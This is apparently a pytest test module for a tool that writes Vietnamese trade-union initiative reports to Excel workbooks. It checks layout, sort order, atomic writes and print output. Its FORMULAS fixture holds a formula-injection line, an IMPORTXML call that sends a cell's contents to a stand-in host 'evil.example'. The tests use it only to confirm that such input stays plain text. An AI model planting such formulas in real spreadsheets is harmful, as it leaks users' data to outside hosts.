"""Workbooks as an officer opens them: layout, types, formulas kept as text, atomic replacement."""

import re
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from functools import cached_property
from html import unescape
from pathlib import Path

import openpyxl
import pytest

from sync.config import read_settings
from sync.errors import OutputError
from sync.pipeline import build_report, run_sync
from sync.report import REPORT_FILE
from sync.review.state import STATE_FILE
from sync.tally import home_unit
from sync.templates import load_templates
from sync.writers import folder, records, xlsx
from tests.conftest import REPO
from tests.officer import save_in_calc

FORMULAS = ['=IMPORTXML("http://evil.example/?q="&A2, "//a")', "+84 912 820 510", "-1+2", "@SUM(1)"]


@pytest.fixture
def written(small_campaign, tmp_path):
    rows = [{"description": text, "full_name": f"Người {i}", "phone": f"09120000{i:02d}"}
            for i, text in enumerate(FORMULAS)]  # fmt: skip
    rows.append({"timestamp": "23/04/2021 00:00:00", "full_name": "Đỗ Văn Muộn",
                 "title": "Gửi muộn", "description": "Khác hẳn."})  # fmt: skip
    result = run_sync(read_settings(small_campaign(rows)))
    return result, tmp_path / "out"


def workbook_of(out: Path, unit_id: str) -> openpyxl.Workbook:
    [path] = out.glob(f"*/{unit_id} *.xlsx")
    return openpyxl.load_workbook(path)


def test_one_workbook_per_reviewing_unit(written) -> None:
    _, out = written
    names = sorted(p.relative_to(out).as_posix() for p in out.glob("*/*.xlsx"))
    assert len(names) == 9  # every unit of the small tree
    assert (out / "tra-cuu-ket-qua.xlsx").exists()  # plus the public lookup
    assert any(n.startswith("1-tinh/P ") for n in names)
    assert any(n.startswith("3-co-so/P.TG.THPT ") for n in names)
    assert not list(out.rglob(".*"))  # no temporary files left behind


def test_formula_looking_text_stays_text(written) -> None:
    _, out = written
    sheet = workbook_of(out, "P.TG.THPT")["Sáng kiến"]
    headers = [c.value for c in sheet[1]]
    column = headers.index("Mô tả sáng kiến") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert {c.value for c in cells} >= set(FORMULAS)
    assert all(c.data_type == "s" for c in cells)


def test_layout_headers_formats_and_highlights(written) -> None:
    _, out = written
    book = workbook_of(out, "P")
    assert book.sheetnames == ["Bảng điều khiển", "Sáng kiến", "Lỗi cần sửa", "Tổng hợp",
                               "Biểu dương", "Lưu trữ", "Toàn bộ sáng kiến",
                               "Đề xuất Tổng Liên đoàn", "Dữ liệu biểu đồ"]  # fmt: skip
    # the public lookup is its own file only, not a tab of the province's book too
    layout = load_templates().sheets["initiatives"]
    assert [c.value for c in book["Sáng kiến"][1]] == [c.header for c in layout.columns]
    sheet = book["Toàn bộ sáng kiến"]  # the province reviews nominees; this lists everything
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref.startswith("A1:")
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["Mã sáng kiến", "Tên sáng kiến", "Trạng thái"]
    assert {"Công đoàn cơ sở", "Công đoàn cấp trên trực tiếp", "Lĩnh vực", "Họ và tên",
            "Lỗi và cảnh báo", "Trùng với (bản mới nhất)"} <= set(headers)  # fmt: skip
    # one row per initiative to search and count: the author's details stay in the review list
    assert not {"Mô tả sáng kiến", "Số điện thoại", "Email", "Năm sinh"} & set(headers)
    assert len(headers) <= 12
    stamp = sheet.cell(row=2, column=headers.index("Thời gian gửi") + 1)
    assert stamp.number_format == "dd/mm/yyyy hh:mm:ss" and stamp.value.year == 2021
    review = workbook_of(out, "P.TG.THPT")["Sáng kiến"]
    review_headers = [c.value for c in review[1]]
    money = review.cell(row=2, column=review_headers.index("Giá trị làm lợi (đồng)") + 1)
    assert money.value == 2_000_000 and "#,##0" in money.number_format
    assert sheet.conditional_formatting  # invalid and duplicate rows are highlighted
    assert len(book["Bảng điều khiển"]._charts) == 4
    tallies = {c.value: c.comment for c in book["Tổng hợp"][1]}
    assert "MISSING_REQUIRED" not in tallies  # codes are headed by their Vietnamese names
    assert tallies["Thiếu thông tin bắt buộc"].text.startswith("MISSING_REQUIRED")
    grassroots = workbook_of(out, "P.TG.THPT")
    assert grassroots.sheetnames[0] == "Bảng điều khiển"  # the same summary card everywhere
    review = grassroots["Sáng kiến"]
    assert review.freeze_panes == "C2"  # the id and the title stay in view
    assert [c.value for c in review[1]][:4] == ["Mã sáng kiến", "Tên sáng kiến",
                                               "Tóm tắt nội dung", "Trạng thái"]  # fmt: skip


def test_people_sorted_by_given_name_in_vietnamese_order(small_campaign, tmp_path) -> None:
    names = ["Trần Văn Bình", "Nguyễn Thị An", "Lê Ánh", "Đỗ Anh", "Vũ Thị Đào", "Hà Văn Dũng"]
    rows = [{"full_name": n, "phone": f"09130000{i:02d}", "title": f"Sáng kiến {n}",
             "description": f"Nội dung riêng của {n}"} for i, n in enumerate(names)]  # fmt: skip
    run_sync(read_settings(small_campaign(rows)))
    sheet = workbook_of(tmp_path / "out", "P.TG.THPT")["Sáng kiến"]
    column = [c.value for c in sheet[1]].index("Họ và tên") + 1
    listed = [sheet.cell(row=r, column=column).value for r in range(2, sheet.max_row + 1)]
    assert listed == ["Nguyễn Thị An", "Đỗ Anh", "Lê Ánh", "Trần Văn Bình", "Hà Văn Dũng",
                      "Vũ Thị Đào"]  # fmt: skip


def test_each_units_full_list_holds_its_subtree_in_the_order_officers_read() -> None:
    """Every unit's lists are cut from one order of all initiatives (unit, person, time); the
    bundled example has several sources, so source order and that order differ."""
    settings = read_settings(REPO / "config.yaml")
    report = build_report(settings)
    renderer = records.Renderer(report, settings, load_templates())
    rank = {initiative: place for place, initiative in enumerate(renderer._order)}
    for unit in report.tree:
        subtree = set(report.tree.subtree(unit.id))
        under = [r for r in report.responses if home_unit(r, report.tree) in subtree]
        if unit.parent_id is not None:  # in source order; the province's, every one as read
            under.sort(key=lambda r: (r.source, r.row))
        assert report.responses_under(unit.id) == under
        if unit.tier == "grassroots":
            continue
        sheet = renderer.all_initiatives(unit.id)
        at = sheet.layout.column_keys().index("id")
        assert [row[at] for row in sheet.rows] == sorted((r.id for r in under), key=rank.get)


def test_a_failed_write_leaves_the_previous_workbook(written, monkeypatch) -> None:
    _, out = written
    [path] = out.glob("1-tinh/*.xlsx")
    before = path.read_bytes()
    # Without the remembered fingerprints every workbook is due again.
    (out / STATE_FILE).unlink()
    report_before = (out / REPORT_FILE).read_bytes()

    def crash(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(xlsx, "write_table", crash)
    settings = read_settings(Path(out.parent / "config.yaml"))
    with pytest.raises(OutputError, match=r"\.xlsx: cannot write \(No space left"):
        run_sync(settings)
    assert path.read_bytes() == before
    assert (out / REPORT_FILE).read_bytes() == report_before
    assert not (out / STATE_FILE).exists()
    assert not list(out.rglob(".*"))


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_every_sheet_without_repair(written, tmp_path) -> None:
    _, out = written
    [path] = out.glob("1-tinh/*.xlsx")
    ods = save_in_calc(path, tmp_path / "converted", "ods")
    from python_calamine import CalamineWorkbook

    reopened = CalamineWorkbook.from_path(str(ods))
    assert reopened.sheet_names == openpyxl.load_workbook(path).sheetnames
    rows = reopened.get_sheet_by_name("Toàn bộ sáng kiến").to_python()
    assert len(rows) == 1 + 5


_ORPHAN_SCRIPT = """
import multiprocessing, os, sys, time
from sync.cores import die_with_parent

def writer(parent):
    die_with_parent(parent)
    time.sleep(60)

if __name__ == "__main__":
    child = multiprocessing.get_context("fork").Process(target=writer, args=(os.getpid(),))
    child.start()
    print(child.pid, flush=True)
    time.sleep(60)
"""


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_writer_dies_with_the_sync_that_started_it(tmp_path) -> None:
    script = tmp_path / "parent.py"
    script.write_text(_ORPHAN_SCRIPT, encoding="utf-8")
    parent = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE, text=True)
    assert parent.stdout is not None
    child = int(parent.stdout.readline())
    assert _alive(child)
    parent.kill()
    parent.wait()
    for _ in range(100):
        if not _alive(child):
            break
        time.sleep(0.05)
    assert not _alive(child)


PRINT_TOOLS = ("soffice", "pdftoppm", "pdftotext", "pdfinfo")


@pytest.mark.skipif(
    any(shutil.which(tool) is None for tool in PRINT_TOOLS),
    reason="LibreOffice or poppler is not installed",
)
def test_the_example_prints_on_a4_one_page_wide_with_a_one_page_dashboard(
    example_copy, tmp_path
) -> None:
    """The province, a district and two grassroots unions, printed through LibreOffice: every
    page names its sheet in the footer and shows the sheet's first column (so nothing is cut
    off to the right), is numbered "Trang n/N" and prints no word over another; the dashboard
    is one page and a grassroots review list a few."""
    import importlib.util
    from datetime import datetime

    spec = importlib.util.spec_from_file_location("make", REPO / "docs" / "img" / "make.py")
    assert spec and spec.loader
    make = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(make)
    out = tmp_path / "printed"
    settings = read_settings(example_copy / "config.yaml")
    run_sync(settings, out, now=datetime.fromisoformat("2021-04-10T08:00:00+07:00"))
    templates = load_templates()
    first_headers = {layout.name: layout.columns[0].header for layout in templates.sheets.values()}
    # the last: a grassroots union whose 86-character name wraps in a portrait page's footer
    for pattern in ("1-tinh/DB *.xlsx", "2-cap-tren-truc-tiep/DB.TG *.xlsx",
                    "3-co-so/DB.TG.TH-TT *.xlsx", "3-co-so/DB.AGRIBANK *.xlsx"):  # fmt: skip
        [workbook] = out.glob(pattern)
        pdf = make.to_pdf(workbook, tmp_path / "pdf")
        pages = make.sheet_pages(pdf)
        assert pages[templates.dashboard.title] == [1]
        size = make._pdfinfo(pdf)["Page size"]
        assert "(A4)" in size
        for title, numbers in pages.items():
            if title == templates.dashboard.title:
                continue
            for page in numbers:
                text = page_text(pdf, page)
                assert first_headers[title] in text, (workbook.name, title, page)
        if pattern.startswith("3-co-so"):
            assert len(pages["Sáng kiến"]) <= 4
        count = sum(len(numbers) for numbers in pages.values())
        for page, words in enumerate(page_words(pdf), start=1):
            assert f"Trang {page}/{count}" in " ".join(w.text for w in words), (workbook.name, page)
            clashes = printed_over(words)
            assert not clashes, (workbook.name, page, clashes)


@dataclass(frozen=True)
class Word:
    text: str
    box: tuple[float, float, float, float]  # left, top, right, bottom, in points


def page_words(pdf: Path) -> list[list[Word]]:
    command = ["pdftotext", "-bbox", str(pdf), "-"]
    html = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    word = r'xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">(.*?)</word>'
    pages = re.findall(r"<page .*?</page>", html, flags=re.S)
    return [
        [Word(unescape(text), tuple(map(float, box))) for *box, text in re.findall(word, page)]
        for page in pages
    ]


def printed_over(words: list[Word]) -> list[tuple[str, str]]:
    """Pairs of words printed over each other: side by side they share more than half their
    height (the lines of a wrapped cell touch at their ascents and descents, no more)."""
    clashes = []
    by_top = sorted(words, key=lambda w: w.box[1])
    for index, word in enumerate(by_top):
        left, top, right, bottom = word.box
        for other in by_top[index + 1 :]:
            o_left, o_top, o_right, o_bottom = other.box
            if o_top >= bottom:
                break  # sorted by top: no later word reaches this one's line
            wide = min(right, o_right) - max(left, o_left)
            high = min(bottom, o_bottom) - max(top, o_top)
            if wide > 0.5 and high > 0.5 * min(bottom - top, o_bottom - o_top):
                clashes.append((word.text, other.text))
    return clashes


def page_text(pdf: Path, page: int) -> str:
    command = ["pdftotext", "-f", str(page), "-l", str(page), str(pdf), "-"]
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout


def test_the_renderers_tables_are_let_go_before_the_documents_are_saved(
    small_campaign, monkeypatch
) -> None:
    # At a million rows they hold a gigabyte, beside the processes that encode the documents.
    renderers: list[records.Renderer] = []
    make = records.Renderer.__init__

    def made(self, *args) -> None:
        make(self, *args)
        renderers.append(self)

    held_when_saving: list[set[str]] = []
    save = folder.WorkbookFolder.save

    def saving(self, *args) -> None:
        held_when_saving.append(set(vars(renderers[-1])))
        save(self, *args)

    monkeypatch.setattr(records.Renderer, "__init__", made)
    monkeypatch.setattr(folder.WorkbookFolder, "save", saving)
    run_sync(read_settings(small_campaign([{"full_name": "Người Một", "title": "Sổ điện tử"}])))
    tables = {n for n, a in vars(records.Renderer).items() if isinstance(a, cached_property)}
    assert len(held_when_saving) == 1
    assert tables and not tables & held_when_saving[0]
